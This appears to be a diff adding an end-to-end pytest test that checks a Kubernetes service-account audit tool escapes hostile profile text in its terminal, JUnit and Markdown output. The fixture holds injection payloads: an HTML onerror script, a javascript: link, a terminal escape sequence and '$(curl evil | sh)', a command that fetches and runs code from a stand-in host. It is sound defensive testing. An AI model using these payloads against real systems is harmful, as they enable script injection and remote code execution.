@@ -152,3 +152,38 @@ def test_allure_environment_values_are_printable():
     text = report.allure_environment([DEMO], RunFacts({"demo": f"arn{TITLE}\nrunner=forged"}, {}))
     assert "runner=arn\\\\x1b]0;owned\\\\x07\\\\x0arunner=forged\n" in text
     assert not RAW.search(text.replace("\n", ""))
+
+
+def test_a_run_shows_hostile_profile_text_escaped_everywhere(tmp_path):
+    """End to end: a profile owner with HTML, a javascript: link and a shell pipe (the profile loader already
+    refuses control characters there), on a ServiceAccount that lacks its owner label, so the owner reaches
+    the failure, its next command, the summary, JUnit and the Markdown inventory."""
+    from tests.conftest import demo_data, run_pytest, write_profile
+
+    data = demo_data()
+    data["workloads"][0]["owner"] = "<img src=x onerror=alert(1)>[x](javascript:alert(1)) $(curl evil | sh)"
+    data["sandbox"]["faults"] = [{"fault": "missing-owner-label", "workload": data["workloads"][0]["name"]}]
+    profile = write_profile(tmp_path, data, "demo")
+    inventory = tmp_path / "inventory.md"
+    run = run_pytest(
+        f"--profile={profile}",
+        f"--eksid-inventory={inventory}",
+        "suites/test_configuration.py::test_owner_label",
+        tmp_path=tmp_path,
+    )
+    key = "suites/test_configuration.py::test_owner_label[demo/invoice-exporter]"
+    assert run.outcomes[key] == "failed", run.stdout + run.stderr
+    junit = next(tmp_path.glob("junit-*.xml")).read_text()
+    md = inventory.read_text()
+    for name, text in (("stdout", run.stdout), ("junit", junit), ("inventory", md)):
+        assert "\x1b" not in text and BIDI not in text, name
+        # A terminal shows HTML as text; only a next command must not carry the owner's shell.
+        assert not any("curl evil" in line for line in text.splitlines() if "next" in line and "expected" not in line)
+    assert "<img" not in md and "](" not in md and "&lt;img" in md
+    summary = next(line for line in run.stdout.splitlines() if line.startswith(f"{key} - "))
+    assert summary.endswith(
+        " does not name its owner (next: kubectl -n finance-demo get sa invoice-exporter-aws-sa -o yaml)"
+    )
+    assert "  next:     kubectl -n finance-demo label sa invoice-exporter-aws-sa " in run.stdout
+    assert "platform.mycompany.io/identity-owner=<team>\n" in run.stdout
+    assert '<property name="next" value="kubectl -n finance-demo get sa invoice-exporter-aws-sa -o yaml"' in junit
